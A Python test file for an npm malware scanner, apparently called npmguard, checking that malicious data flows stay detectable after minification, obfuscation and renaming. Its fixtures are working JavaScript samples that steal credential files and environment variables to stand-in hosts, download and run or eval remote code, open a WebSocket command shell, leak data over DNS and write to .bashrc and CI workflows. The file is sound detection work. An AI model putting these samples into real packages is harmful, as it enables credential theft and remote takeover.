"""Flows that minifiers, renaming and obfuscators must not hide."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tree_sitter import Node

from npmguard.config import Limits
from npmguard.javascript.program import Program
from npmguard.javascript.syntax import captures, parse
from tests.fixture_packages import twins_of
from tests.javascript_facts import read
from tests.javascript_flows import FLOWS, flow_facts, flows

PROGRAMS = {
    "collects and posts": (
        """
        const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
        function collect() {
          const found = {};
          for (const name of ['.npmrc', '.netrc', path.join('.aws', 'credentials')]) {
            const file = path.join(os.homedir(), name);
            if (fs.existsSync(file)) found[name] = fs.readFileSync(file, 'utf8');
          }
          found.machine = { name: os.hostname(), all: process.env };
          return found;
        }
        function send(data) {
          const body = Buffer.from(JSON.stringify(data)).toString('base64');
          const request = https.request({ hostname: 'collect.example', method: 'POST', path: '/in' });
          request.write(body);
          request.end();
        }
        if (os.hostname().endsWith('.invalid')) send(collect());
        """,
        {"credential-file>network", "environment>network", "host-info>network"},
    ),
    "downloads and runs": (
        """
        const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');
        const { spawn } = require('child_process');
        const target = path.join(os.tmpdir(), 'helper.js');
        function fetchTo(address, done) {
          https.get(address, (response) => {
            const file = fs.createWriteStream(target);
            response.pipe(file);
            file.on('finish', () => file.close(done));
          });
        }
        if (os.hostname().endsWith('.invalid')) {
          fetchTo('https://files.example/helper', () => spawn('node', [target], { detached: true }));
        }
        """,
        {"network>file", "network>run-file"},
    ),
    "evaluates what comes": (
        """
        const http = require('http'), os = require('os');
        function load(address, use) {
          http.get(address, (answer) => {
            let text = '';
            answer.on('data', (part) => { text += part; });
            answer.on('end', () => use(text));
          });
        }
        const use = (text) => new Function('require', text)(require);
        if (os.hostname().endsWith('.invalid')) load('http://code.example/', use);
        """,
        {"network>evaluate"},
    ),
    "in a class": (
        """
        class Reporter {
          constructor(address) { this.address = address; this.queue = []; }
          add(name, value) { this.queue.push({ name, value }); return this; }
          async flush() { return fetch(this.address, { method: 'POST', body: JSON.stringify(this.queue) }); }
        }
        const reporter = new Reporter('https://in.example/');
        for (const [name, value] of Object.entries(process.env)) reporter.add(name, value);
        if (require('os').hostname().endsWith('.invalid')) reporter.flush();
        """,
        {"environment>network"},
    ),
    "obeys": (
        """
        const { exec } = require('child_process');
        const WebSocket = require('ws');
        if (require('os').hostname().endsWith('.invalid')) {
          const socket = new WebSocket('wss://orders.example/');
          socket.on('message', (order) => {
            exec(String(order), (error, out) => socket.send(out));
          });
        }
        """,
        {"network>command", "command-output>network"},
    ),
    "looks names up": (
        """
        const dns = require('dns'), os = require('os');
        const label = (text) => Buffer.from(text).toString('hex').slice(0, 60);
        function tell(text) { dns.resolve(label(text) + '.names.example', () => {}); }
        if (os.hostname().endsWith('.invalid')) tell(os.userInfo().username);
        """,
        {"host-info>dns"},
    ),
    "persists": (
        """
        const fs = require('fs'), os = require('os'), path = require('path');
        const line = 'echo hello';
        if (os.hostname().endsWith('.invalid')) {
          fs.appendFileSync(path.join(os.homedir(), '.bashrc'), line);
          fs.writeFileSync(path.join('.github', 'workflows', 'build.yml'), 'on: push');
        }
        """,
        {"embedded>shell-profile", "embedded>workflow"},
    ),
}
MINIFIED = ("terser", "esbuild", "swc")
OBFUSCATED = ("obfuscator", "low", "medium", "high", "base64", "rc4", "self-defending")


@pytest.mark.parametrize("name", PROGRAMS)
def test_flows_of_programs_as_written(name: str) -> None:
    code, expected = PROGRAMS[name]
    assert expected <= flows(code)


@pytest.mark.parametrize("transform", [*MINIFIED, *OBFUSCATED])
@pytest.mark.parametrize("name", PROGRAMS)
def test_flows_of_their_twins(name: str, transform: str) -> None:
    jobs = {
        each: {"transform": transform, "path": "index.js", "text": code, "module": False}
        for each, (code, _) in PROGRAMS.items()
    }
    code, expected = PROGRAMS[name]
    twin = twins_of(transform, jobs)[name]
    found = read(twin, interest=FLOWS)
    assert expected <= {fact.name for fact in found.facts}
    if transform in MINIFIED:
        told = {(fact.name, fact.value, fact.args[2]) for fact in flow_facts(code)}
        assert {(fact.name, fact.value, fact.args[2]) for fact in flow_facts(twin)} == told


@settings(max_examples=25, deadline=None)
@given(st.sampled_from(sorted(PROGRAMS)), st.data())
def test_names_of_the_codes_own_do_not_matter(name: str, data: st.DataObject) -> None:
    code = PROGRAMS[name][0]
    renamed = _renamed(code, lambda: data.draw(st.from_regex(r"[a-z$_][a-zA-Z0-9$_]{0,5}", fullmatch=True)))
    assert [(fact.name, fact.value, fact.args[2:]) for fact in flow_facts(renamed)] == [
        (fact.name, fact.value, fact.args[2:]) for fact in flow_facts(code)
    ]


def _renamed(code: str, draw: object) -> str:
    """The same program with other names for whatever it declares."""
    assert callable(draw)
    parsed = parse("index.js", code.encode(), Limits())
    assert parsed.tree is not None
    scopes = Program(parsed, parsed.tree.root_node, captures(parsed), Limits()).scopes
    shorthands = _shorthands(parsed.tree.root_node)
    names: dict[bytes, str] = {}

    def new(match: re.Match[str]) -> str:
        binding = scopes.at(match.start())
        if binding is None:
            return match[0]
        if binding.name not in names:
            names[binding.name] = f"{draw()}{len(names)}"
        if match.start() in shorthands:
            return f"{match[0]}: {names[binding.name]}"
        return names[binding.name]

    return re.sub(r"(?<![\w$.'/])[A-Za-z_$][\w$]*(?![\w$'])", new, code)


def _shorthands(root: Node) -> set[int]:
    """Where a name is both a declared one and that of a member."""
    found, pending = set(), [root]
    while pending:
        node = pending.pop()
        if node.type.startswith("shorthand_property_identifier"):
            found.add(node.start_byte)
        pending.extend(node.children)
    return found
